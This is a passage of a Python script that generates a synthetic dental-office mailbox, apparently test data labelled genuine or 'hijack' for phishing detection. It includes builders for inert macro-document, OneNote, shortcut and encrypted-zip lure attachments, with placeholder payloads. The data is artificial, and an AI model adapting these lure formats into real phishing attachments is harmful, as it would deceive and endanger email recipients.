                               ("X-AntiAbuse", f"Primary Hostname - {ph}"), ("X-AntiAbuse", f"Original Domain - {OWN}"),
                               ("X-AntiAbuse", "Originator/Caller UID/GID - [47 12] / [47 12]"), ("X-AntiAbuse", f"Sender Address Domain - {who.dom}"),
                               ("X-Get-Message-Sender-Via", f"{ph}: authenticated_id: {who.email}"), ("X-Authenticated-Sender", f"{ph}: {who.email}"),
                               ("X-Source", ""), ("X-Source-Args", ""), ("X-Source-Dir", "")]
    for k, v in list(extra) + tail: hdr_lines.append(f"{k}: {v}")
    raw = ("\n".join(hdr_lines) + "\n\n" + "\n".join(body)).replace("\r\n", "\n").replace("\n", "\r\n")
    if not raw.endswith("\r\n"): raw += "\r\n"
    seq[0] += 1
    arrive = t + (TD(seconds=8) if folder == "INBOX" else TD(0))
    pending.append((arrive.astimezone(UTC), seq[0], folder, raw, (m, label) if label else None, scen))
    return m


G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
def HJ(kind): return ("hijack", kind)


class Thread:
    def __init__(s, tid, partner, subj):
        s.tid, s.p, s.subj, s.refs, s.last = tid, partner, subj, [], None
        s.blocks = []; s.tbase = b"\x01" + rbytes(21); s.np = 0

    def tidx(s):
        while len(s.blocks) < len(s.refs): s.blocks.append(rbytes(5))
        return base64.b64encode(s.tbase + b"".join(s.blocks[:len(s.refs)])).decode()

    def add(s, who, text, t, label=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, scen=None, quote_text=None,
            detached=False, quote_rec=None, quote_tz=None, subj_prefix=None, **kw):
        client = client or who.client
        plain = text + (who.sig if sig else "")
        src = quote_rec or s.last
        if quote and src:
            q = dict(src)
            if quote_text is not None: q["plain"] = quote_text
            plain += quote_of(client, q, quote_tz or who.tz)
        if subj is None:
            if not s.refs: subj = s.subj
            else:
                pf = subj_prefix or ("RE: " if client in ("olk", "owa", "olkios", "outlookcom", "olsmtp") else "Re: ")
                subj = s.subj if s.subj.lower().startswith(("re:", "[ticket")) else pf + s.subj
        if to is None: to = [(s.p.name, s.p.email)] if who is me else [(me.name, me.email)]
        if label == G and scen is None:
            s.np += 1; scen = (f"P-{s.tid}-{s.np}", f"plain in-thread reply from {who.name} in {s.tid} '{s.subj}'")
        if "tidx" not in kw and client in ("olk", "owa", "olkios", "outlookcom", "olsmtp"): kw["tidx"] = s.tidx()
        m = emit(who, client, t, to, cc, subj, list(s.refs), plain, label=label, topic=s.subj, scen=scen, **kw)
        if detached: return m
        s.refs.append(m)
        s.last = dict(t=t, name=who.name, email=who.email, plain=plain, subj=subj, to=to, cc=cc or [])
        return m


# ---------------------------------------------------------------- inert attachments with realistic container structure
def pdf_esc(s): return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf(lines, producer="Microsoft\xae Word for Microsoft 365", when="20250303091200", zone="-05'00'", uris=(), creator=None):
    content = ("BT /F1 10 Tf 13 TL 56 780 Td " + " ".join(f"({pdf_esc(l)}) '" for l in lines) + " ET").encode("latin-1")
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None,
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({pdf_esc(producer)})" + (f" /Creator ({pdf_esc(creator)})" if creator else "") + f" /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone}) >>"]
    annots = []
    for i, u in enumerate(uris):
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [56 {520 - 40 * i} 300 {548 - 40 * i}] /Border [0 0 0] /A << /S /URI /URI ({u}) >> >>")
        annots.append(len(objs))
    objs[2] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
               + (f" /Annots [{' '.join(f'{a} 0 R' for a in annots)}]" if annots else "") + " >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += (f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n") if i == 4 else f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def zipb(members, when=(2025, 1, 10, 9, 0, 0)):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; zi.external_attr = 0x20; z.writestr(zi, data)
    z.close(); return bio.getvalue()


def zip_encrypted(members, when=(2025, 3, 10, 4, 40, 0)):
    """ZipCrypto-flagged archive: valid local headers / central directory / EOCD, entry data = 12-byte header + random bytes"""
    dt = ((when[3] << 11) | (when[4] << 5) | (when[5] // 2)), (((when[0] - 1980) << 9) | (when[1] << 5) | when[2])
    local = bytearray(); central = bytearray()
    for name, size in members:
        nb = name.encode(); data = rbytes(12 + max(16, int(size * 0.7))); crc = R.getrandbits(32)
        off = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x0001, 8, dt[0], dt[1], crc, len(data), size, len(nb), 0) + nb + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, 0x0001, 8, dt[0], dt[1], crc, len(data), size, len(nb), 0, 0, 0, 0, 0x20, off) + nb
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local + central + eocd)


def png(w=480, h=300, seed_tone=200):
    def chunk(tp, data): return struct.pack(">I", len(data)) + tp + data + struct.pack(">I", zlib.crc32(tp + data) & 0xffffffff)
    rows = b"".join(b"\x00" + bytes((R.randint(seed_tone, 255) if (x // 36 + y // 24) % 5 else 60) for x in range(w * 3)) for y in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows, 6)) + chunk(b"IEND", b"")


def jpeg(model="iPhone 15", w=3024, h=4032, n=9000):
    exif_txt = b"Apple\x00" + model.encode() + b"\x00" + b"18.1\x00"
    app1 = b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08" + exif_txt + rbytes(60)
    dqt = b"\x00" + bytes(R.randint(1, 40) for _ in range(64))
    sof = b"\x08" + struct.pack(">HH", h, w) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    scan = bytes(b if b != 0xFF else 0xFE for b in rbytes(n))
    seg = lambda mk, d: b"\xff" + bytes([mk]) + struct.pack(">H", len(d) + 2) + d
    return (b"\xff\xd8" + seg(0xE0, b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00") + seg(0xE1, app1) + seg(0xDB, dqt) + seg(0xC0, sof)
            + seg(0xC4, b"\x00" + bytes(16) + b"") + seg(0xDA, b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00") + scan + b"\xff\xd9")


def wav(seconds=2.5):
    n = int(8000 * seconds); data = bytes(128 + R.randint(-20, 20) for _ in range(n))
    return b"RIFF" + struct.pack("<I", 36 + n) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", n) + data


def lnk_bytes(target, args, icon):
    hdr = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", 0x000002E0 | 0x20 | 0x40 | 0x80 | 0x4)
    hdr += struct.pack("<I", 0x20) + rbytes(24) + struct.pack("<I", 0) + struct.pack("<I", 0) + struct.pack("<I", 7) + struct.pack("<H", 0) + bytes(10)
    def sd(s): return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return hdr + sd("..\\..\\..\\Windows\\System32\\" + target) + sd("%SystemRoot%\\System32") + sd(args) + sd(icon) + bytes(4)


def docm(title, paragraphs):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
          '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    drels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    body = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{H.escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           + body + '<w:sectPr><w:pgSz w:w="12240" w:h="15840"/></w:sectPr></w:body></w:document>')
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>' + H.escape(title) + '</dc:title><dc:creator>Admin</dc:creator></cp:coreProperties>')
    app = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
           '<Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion></Properties>')
    vba = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHH", 0x3E, 3, 0xFFFE) + rbytes(3000) + b"Attribute VB_Name = \"ThisDocument\"\r\n' inert probe placeholder\r\n"
    return zipb([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc), ("word/_rels/document.xml.rels", drels),
                 ("word/vbaProject.bin", vba), ("docProps/core.xml", core), ("docProps/app.xml", app)], when=(1980, 1, 1, 0, 0, 0))


def onenote(embedded_name):
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")        # {7B5C52E4-D88C-4DA7-AEB1-5378D02996D3} .one file format
    fdo = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")         # FileDataStoreObject header
    payload = f"REM inert probe placeholder for {embedded_name}\r\n".encode()
    return head + rbytes(2000) + fdo + struct.pack("<QII", len(payload), 0, 0) + payload + rbytes(600)


def ics(uid, summary, start, minutes, organizer, attendee, location, desc, url=None):
    f = lambda d: d.astimezone(UTC).strftime("%Y%m%dT%H%M%SZ")
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT",
             f"ORGANIZER;CN=\"{organizer[0]}\":mailto:{organizer[1]}", f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=\"{attendee[0]}\":mailto:{attendee[1]}",
             "DESCRIPTION:" + desc.replace("\n", "\\n"), f"UID:{uid}", f"SUMMARY:{summary}", f"DTSTART:{f(start)}", f"DTEND:{f(start + TD(minutes=minutes))}",
             f"DTSTAMP:{f(start - TD(days=3))}", f"LOCATION:{location}"] + ([f"URL:{url}"] if url else []) + \
            ["STATUS:CONFIRMED", "SEQUENCE:0", "BEGIN:VALARM", "TRIGGER:-PT15M", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "END:VALARM", "END:VEVENT", "END:VCALENDAR"]
    out = []
    for l in lines:   # RFC 5545 folding at 75 octets
        while len(l) > 75: out.append(l[:75]); l = " " + l[75:]
        out.append(l)
    return ("\r\n".join(out) + "\r\n").encode()


# ---------------------------------------------------------------- people
SIG_ME = ("\n\nDenise Kowalski\nOffice Manager | Scioto Family Dental Group\nClintonville | Dublin | Grove City\nP 614-555-0127 | F 614-555-0129\n"
          "3546 N High St, Columbus, OH 43214\n\nCONFIDENTIALITY NOTICE: This message may contain protected health information (PHI). If you received it in "
          "error, please notify the sender and delete it.")
me = Pt("Denise Kowalski", f"dkowalski@{OWN}", "olk", "own", SIG_ME)
haddad = Pt("Dr. Amir Haddad", f"ahaddad@{OWN}", "olk", "int", "\n\nAmir Haddad, DDS\nOwner | Scioto Family Dental Group", host="CH0PR04MB8120")
kayla = Pt("Kayla Nguyen", f"knguyen@{OWN}", "owa", "int", "\n\nKayla Nguyen, RDH\nGrove City office", host="CH0PR04MB7733")
brittany = Pt("Brittany Shaw", f"bshaw@{OWN}", "olk", "int", "\n\nBrittany Shaw\nFront Desk Lead - Dublin\nScioto Family Dental Group | 614-555-0140", host="CH0PR04MB8051")
skim = Pt("Dr. Sarah Kim", f"skim@{OWN}", "olk", "int", "\n\nSarah Kim, DMD", host="CH0PR04MB8120")

tanya = Pt("Tanya Brooks", "tanya.brooks@keystonerevenue.example", "gws", "gws-keystone",
           "\n\n-- \nTanya Brooks\nClient Account Manager | Keystone Revenue Partners\n(614) 555-0361 | keystonerevenue.example\n"
           "This e-mail may contain PHI. Patient-level detail is sent only through Virtru.")
marcus = Pt("Marcus Webb", "marcus.webb@keystonerevenue.example", "gws", "gws-keystone",
            "\n\n-- \nMarcus Webb\nA/R & Payer Follow-up Specialist | Keystone Revenue Partners\n(614) 555-0374")
alyssa = Pt("Alyssa Romero", "alyssa.romero@keystonerevenue.example", "gws", "gws-keystone",
            "\n\n-- \nAlyssa Romero\nClient Account Manager | Keystone Revenue Partners\n(614) 555-0368 | keystonerevenue.example\n"
            "This e-mail may contain PHI. Patient-level detail is sent only through Virtru.")
greg = Pt("Greg Halloran", "greg@buckeyedentalarts.example", "olk", "exo:buckeyedentalarts.example",
          "\n\nGreg Halloran, CDT\nOwner | Buckeye Dental Arts Lab\n1180 Kinnear Rd, Columbus, OH 43212 | 614-555-0148", host="SA1PR17MB5523")
lisa = Pt("Lisa Tran", "lisa@buckeyedentalarts.example", "olk", "exo:buckeyedentalarts.example",
          "\n\nLisa Tran\nOffice & Accounts | Buckeye Dental Arts Lab\n614-555-0148 ext. 2 | lisa@buckeyedentalarts.example", host="SA1PR17MB6031")
tom = Pt("Tom Jarvis", "tom.jarvis@midwestdentalsupply.example", "olk", "exo:midwestdentalsupply.example",
         "\n\nTom Jarvis\nTerritory Representative - Central Ohio\nMidwest Dental Supply\nCell 614-555-0112 | Customer Service 800-555-0190")
monique = Pt("Monique Carter", "monique.carter@greatlakesdental.example", "olk", "exo:greatlakesdental.example",
             "\n\nMonique Carter\nProvider Relations Representative - Ohio\nGreat Lakes Dental Benefits\n(800) 555-0134 ext. 4471")
nora = Pt("Nora Whitfield", "nwhitfield@olentangyit.example", "olk", "exo:olentangyit.example",
          "\n\nNora Whitfield\nProject Engineer | Olentangy IT Solutions\n614-555-0157 | support: 614-555-0150")
oit = Pt("Olentangy IT Service Desk", "support@olentangyit.example", "psa", "sg-oit")
brent = Pt("Brent Olsen", "brent.olsen@openchairsoftware.example", "olk", "exo:openchairsoftware.example",
           "\n\nBrent Olsen\nSenior Account Manager | OpenChair Software\n801-555-0126 | Lehi, Utah", tz=MT)
ocsup = Pt("OpenChair Support", "support@openchairsoftware.example", "zd", "zd-openchair", tz=MT)
carla = Pt("Carla Benton", "carla@midohioproperties.example", "rc", "cpanel-midohio",
           "\n\n-- \nCarla Benton\nProperty Manager\nMid-Ohio Property Management\n614-555-0183")
dave = Pt("Dave Ruiz", "dave@midohioproperties.example", "rc", "cpanel-midohio",
          "\n\n-- \nDave Ruiz\nMaintenance Coordinator\nMid-Ohio Property Management\n614-555-0185 (after hours 614-555-0199)")
ellen = Pt("Ellen Hartwell", "ellen@hartwellmoss.example", "olk", "exo:hartwellmoss.example",
           "\n\nEllen Hartwell, CPA\nPartner | Hartwell & Moss CPAs\n2 Miranova Pl, Suite 400, Columbus, OH 43215 | 614-555-0171", host="CO1PR11MB5093")
josh = Pt("Josh Kim", "josh@hartwellmoss.example", "olk", "exo:hartwellmoss.example",
          "\n\nJosh Kim\nStaff Accountant | Hartwell & Moss CPAs\n614-555-0174", host="CO1PR11MB6642")
barbara = Pt("Barbara Lindqvist", "blindqvist52@aol.com", "aol", "aol", "\n\nBarbara")
ron = Pt("Ron Petrakis", "ronpetrakis@yahoo.com", "ymand", "yahoo", "\n\nSent from Yahoo Mail on Android")
kevin = Pt("Kevin Doyle", "kdoyle1971@comcast.net", "xfin", "comcast", "\n\nKevin")
priya = Pt("Priya Raman", "priya.raman88@gmail.com", "gmail", "gmail", "\n\nThanks,\nPriya")
jessica = Pt("Jessica Moreau", "jess.moreau@icloud.com", "iphone", "icloud", "\n\nSent from my iPhone")
rosa = Pt("Rosa Delgado", "rosadelgado.cbus@gmail.com", "gmail", "gmail", "\n\nRosa")


def jitter(t, lo=2, hi=30): return t + TD(minutes=R.randint(lo, hi))


def notice(who, client, t, subj, plain, html, extra=(), label=None, scen=None, to=None, atts=(), refs=(), mid=None, frm=None, infra=None):
    return emit(who, client, t, to or [(me.name, me.email)], None, subj, list(refs), plain, html=html, atts=atts, extra=extra,
                label=label, scen=scen, mid=mid, frm=frm, infra=infra)


def simple_html(paras, brand, color="#1a4f8b", foot=""):
    body = "".join(f"<p style=\"margin:0 0 12px 0\">{p}</p>" for p in paras)
    return ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width">'
            f'</head><body style="margin:0;background:#f4f5f7"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">'
            f'<table role="presentation" width="600" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">'
            f'<tr><td style="background:{color};color:#fff;padding:14px 20px;font-size:18px;font-weight:bold">{H.escape(brand)}</td></tr>'
            f'<tr><td style="padding:20px">{body}</td></tr><tr><td style="padding:12px 20px;font-size:11px;color:#777">{foot}</td></tr></table></td></tr></table></body></html>')


def a(url, text=None): return f'<a href="{H.escape(url)}">{H.escape(text or url)}</a>'


# carrier notices (Amazon SES)
gldb = Pt("Great Lakes Dental Benefits", "noreply@notify.greatlakesdental.example", "ses", "ses-gldb")
def eob(t, claim, member, patient, loc, status, amount, label=None, scen=None):
    url = f"https://providers.greatlakesdental.example/claims/{claim}?src=email"
    subj = (f"Claim {claim}: {status}" if "payment" not in status.lower() else f"Explanation of Benefits available - payment ${amount}")
    plain = (f"Great Lakes Dental Benefits - Provider Notification\n\nProvider: Scioto Family Dental Group - {loc} (TIN ending 4417)\nPatient: {patient} (member ID ending {member})\n"
             f"Claim: {claim}\nStatus: {status}\n" + (f"Payment: ${amount} (EFT to account ending 2290)\n" if amount else "") +
             f"\nSign in to the Provider Portal to view details and the EOB:\n{url}\n\nThis mailbox is not monitored. Provider Services: 800-555-0134, Mon-Fri 8am-6pm ET.\n"
             "Great Lakes Dental Benefits, PO Box 30441, Lansing, MI 48909\nManage notification settings: https://providers.greatlakesdental.example/settings/notifications")
    html = simple_html([H.escape("Provider notification"), f"Provider: Scioto Family Dental Group - {H.escape(loc)} (TIN ending 4417)<br>Patient: {H.escape(patient)} (member ID ending {member})"
                        f"<br>Claim: {claim}<br>Status: <b>{H.escape(status)}</b>" + (f"<br>Payment: ${amount} (EFT to account ending 2290)" if amount else ""),
                        f'<a href="{url}" style="background:#0b6e4f;color:#fff;padding:9px 16px;text-decoration:none;border-radius:3px">View in Provider Portal</a>'],
                       "Great Lakes Dental Benefits", "#0b6e4f",
                       'This mailbox is not monitored. Provider Services: 800-555-0134.<br>Great Lakes Dental Benefits, PO Box 30441, Lansing, MI 48909<br>'
                       '<a href="https://providers.greatlakesdental.example/settings/notifications">Manage notification settings</a>')
    return notice(gldb, "ses", t, subj, plain, html, extra=[("X-SES-Outgoing", f"{t.astimezone(UTC):%Y.%m.%d}-54.240.48.110"),
                  ("Feedback-ID", f"::1.us-east-1.{b64(30)}:AmazonSES"), ("X-Auto-Response-Suppress", "All")], label=label, scen=scen)


cbr = Pt("ClaimBridge Alerts", "alerts@claimbridge.example", "sg", "sg-claimbridge", tz=CT)
def cb_report(t, acc, rej, pend, reasons):
    url = f"https://app.claimbridge.example/reports/weekly?acct=SFDG-2231&wk={t:%Y%m%d}"
    plain = (f"Weekly claim summary for Scioto Family Dental Group (account SFDG-2231)\nWeek ending {(t - TD(days=1)):%m/%d/%Y}\n\nAccepted by payer: {acc}\n"
             f"Rejected: {rej}\nPending payer response: {pend}\n" + ("\nRejections:\n" + "\n".join(f"- {r}" for r in reasons) if reasons else "") +
             f"\n\nView the full report: {url}\n\nClaimBridge, Inc. | 2100 West End Ave, Nashville, TN 37203\nYou receive this because weekly summaries are enabled for your user.")
    html = simple_html([f"Week ending {(t - TD(days=1)):%m/%d/%Y}", f"Accepted: <b>{acc}</b> &nbsp; Rejected: <b>{rej}</b> &nbsp; Pending: <b>{pend}</b>"]
                       + ([("<br>".join(H.escape(r) for r in reasons))] if reasons else []) + [a(url, "View the full report")], "ClaimBridge", "#2b3a67",
                       "ClaimBridge, Inc. | 2100 West End Ave, Nashville, TN 37203")
    return notice(cbr, "sg", t, f"ClaimBridge weekly summary: {acc} accepted, {rej} rejected", plain, html,
                  extra=[("X-SG-EID", b64(60)), ("X-Entity-ID", b64(18))])


bv = Pt("BuckeyeVoice Voicemail", "voicemail@pbx.buckeyevoice.example", "pbx", "pbx-bv")
VM_BOX = {"C": "Clintonville Main (ext 100)", "D": "Dublin Main (ext 200)", "G": "Grove City Main (ext 300)", "M": "Denise Kowalski (ext 105)"}
def voicemail(t, box, caller, name, secs, transcript, label=None, scen=None):
    url = f"https://portal.buckeyevoice.example/voicemail/{hx(24)}"
    num = f"({caller[:3]}) {caller[3:6]}-{caller[6:]}"
    plain = (f"You have a new voicemail.\n\nFrom: {name} {num}\nTo: {VM_BOX[box]}\nReceived: {t.astimezone(ET):%a %m/%d/%Y %I:%M %p}\nDuration: {secs // 60}:{secs % 60:02d}\n\n"
             f"Transcription (beta): \"{transcript}\"\n\nThe recording is attached. You can also listen in the portal: {url}\n\n-- \nBuckeyeVoice Hosted PBX | support 614-555-0100")
    html = simple_html(["You have a new voicemail.", f"From: <b>{H.escape(name)} {num}</b><br>To: {H.escape(VM_BOX[box])}<br>Received: {t.astimezone(ET):%a %m/%d/%Y %I:%M %p}"
                        f"<br>Duration: {secs // 60}:{secs % 60:02d}", "Transcription (beta): <i>" + H.escape(transcript) + "</i>", a(url, "Listen in the portal")],
                       "BuckeyeVoice", "#b5121b", "BuckeyeVoice Hosted PBX | support 614-555-0100")
    fn = f"VM_{t.astimezone(ET):%Y%m%d_%H%M}_{caller}.wav"
    return notice(bv, "pbx", t, f"Voicemail from {num} to {VM_BOX[box].split(' (')[0]} - {secs // 60}:{secs % 60:02d}", plain, html,
                  atts=[(fn, wav(min(secs, 6) / 3), "audio/wav")], extra=[("X-BV-Mailbox", VM_BOX[box].split("ext ")[1].rstrip(")")),
                  ("Auto-Submitted", "auto-generated")], label=label, scen=scen)


qbo = Pt("Buckeye Dental Arts Lab", "quickbooks@notification.intuit.example", "qbo", "intuit")
def qbo_invoice(t, num, amount, due, remit):
    url = f"https://connect.intuit.example/t/scs-v1-{hx(32)}?locale=en_US&cta=viewinvoicenow"
    plain = (f"Dear Scioto Family Dental Group,\n\nHere's your invoice! We appreciate your prompt payment.\n\nInvoice {num}\nDue {due}\nBalance due ${amount}\n\n"
             f"Review and pay: {url}\n\nThanks for your business!\nBuckeye Dental Arts Lab\n\nBuckeye Dental Arts Lab | 1180 Kinnear Rd, Columbus, OH 43212 | 614-555-0148\n\n"
             "If you receive an email that seems fraudulent, please check with the business owner before paying.\n(c) Intuit Inc. All rights reserved.")
    html = simple_html(["Dear Scioto Family Dental Group,", "Here's your invoice! We appreciate your prompt payment.",
                        f"<b>Invoice {num}</b><br>Due {due}<br>Balance due <b>${amount}</b>",
                        f'<a href="{url}" style="background:#2ca01c;color:#fff;padding:10px 22px;text-decoration:none;border-radius:4px">Review and pay</a>',
                        "Thanks for your business!<br>Buckeye Dental Arts Lab"], "Buckeye Dental Arts Lab", "#393a3d",
                       "If you receive an email that seems fraudulent, please check with the business owner before paying.<br>&copy; Intuit Inc. All rights reserved.")
    p = pdf(["Buckeye Dental Arts Lab", "1180 Kinnear Rd, Columbus, OH 43212", f"INVOICE {num}", "Bill to: Scioto Family Dental Group, 3546 N High St, Columbus, OH 43214",
             f"Due date: {due}", f"Balance due: ${amount}", "Remit to: " + remit], producer="QuickBooks Online PDF", when=f"{t:%Y%m%d%H%M%S}")
    return notice(qbo, "qbo", t, f"Invoice {num} from Buckeye Dental Arts Lab", plain, html, atts=[(f"Invoice_{num}_from_Buckeye_Dental_Arts_Lab.pdf", p, "application/pdf")],
                  extra=[("Reply-To", "Lisa Tran <lisa@buckeyedentalarts.example>"), ("X-Intuit-Product", "QBO"), ("X-Intuit-Template", "invoice_v4")])


mds_orders = Pt("Midwest Dental Supply", "orders@midwestdentalsupply.example", "ses", "ses-mds", tz=CT)
def mds_order(t, order, items, ship=None):
    if ship:
        url = f"https://www.ups.example/track?loc=en_US&tracknum={ship}"
        subj = f"Your order {order} has shipped"
        lines = [f"Good news - order {order} has shipped via UPS Ground.", f"Tracking number: {ship}", f"Track: {url}"]
    else:
        url = f"https://www.midwestdentalsupply.example/account/orders/{order}"
        subj = f"Order confirmation - {order}"
        lines = [f"Thank you for your order {order}.", "Items:"] + [f"  {q} x {d}" for q, d in items] + [f"View order: {url}"]
    plain = "\n".join(lines) + "\n\nMidwest Dental Supply | Customer Service 800-555-0190 | 7400 Metro Blvd, Edina, MN 55439"
    html = simple_html([H.escape(l) if not l.startswith(("Track:", "View order:")) else a(url, l.split(": ", 1)[0]) for l in lines], "Midwest Dental Supply", "#00558c",
                       "Midwest Dental Supply | Customer Service 800-555-0190")
    return notice(mds_orders, "ses", t, subj, plain, html, extra=[("X-SES-Outgoing", f"{t.astimezone(UTC):%Y.%m.%d}-54.240.8.31"), ("Feedback-ID", f"::1.us-east-1.{b64(30)}:AmazonSES")])


ups = Pt("UPS", "pkginfo@ups.example", "ups", "ups")
def ups_note(t, track, status, loc):
    url = f"https://www.ups.example/track?loc=en_US&tracknum={track}&requester=ST/"
    plain = f"UPS Update: {status}\n\nShipper: MIDWEST DENTAL SUPPLY\nTracking Number: {track}\nShip To: SCIOTO FAMILY DENTAL, {loc}\n\nTrack your package: {url}\n\n(c) United Parcel Service of America, Inc."
    html = simple_html([f"<b>{H.escape(status)}</b>", f"Shipper: MIDWEST DENTAL SUPPLY<br>Tracking Number: {track}<br>Ship To: SCIOTO FAMILY DENTAL, {H.escape(loc)}", a(url, "Track Package")],
                       "UPS", "#351c15", "&copy; United Parcel Service of America, Inc.")
    return notice(ups, "ups", t, f"UPS Update: {status}", plain, html)


psa_sys = Pt("Olentangy IT Service Desk", "support@olentangyit.example", "psa", "sg-oit")
PSA_FOOT = ("\n\n--\nTicket #{tk} | Status: {st} | Priority: {pr}\nClient portal: https://portal.olentangyit.example/tickets/{tk}\n"
            "Reply to this e-mail to add a note to the ticket. Olentangy IT Solutions | 614-555-0150 | support@olentangyit.example")
def psa_extra(tk): return [("X-SG-EID", b64(60)), ("X-Entity-ID", b64(18)), ("X-OIT-Ticket", tk), ("Auto-Submitted", "auto-generated"), ("X-Auto-Response-Suppress", "All")]


def psa_notice(t, tk, subj, text, st, pr="P3 - Normal", refs=(), label=None, scen=None):
    plain = text + PSA_FOOT.format(tk=tk, st=st, pr=pr)
    return notice(psa_sys, "psa", t, subj, plain, html_of("psa", plain), extra=psa_extra(tk), refs=refs, label=label, scen=scen)


ocz = Pt("OpenChair Support", "support@openchairsoftware.example", "zd", "zd-openchair", tz=MT)
def zd_body(entries, reqno):
    """Zendesk notification body: newest comment first"""
    out = "##- Please type your reply above this line -##\n\n" + f"Your request ({reqno}) has been updated. To add additional comments, reply to this email.\n"
    for who, t, text in entries:
        out += f"\n----------------------------------------------\n\n{who}\n\n{t.astimezone(MT):%b %-d, %Y, %H:%M} {t.astimezone(MT):%Z}\n\n{text}\n"
    return out + "\n--------------------------------\nThis email is a service from OpenChair Support.\n\n[" + HX(5) + "-" + HX(5) + "]"


def ooo(who, t, orig_subj, orig_mid, text, label=None, scen=None):
    return emit(who, who.client, t, [(me.name, me.email)], None, "Automatic reply: " + orig_subj, [orig_mid], text, label=label, scen=scen,
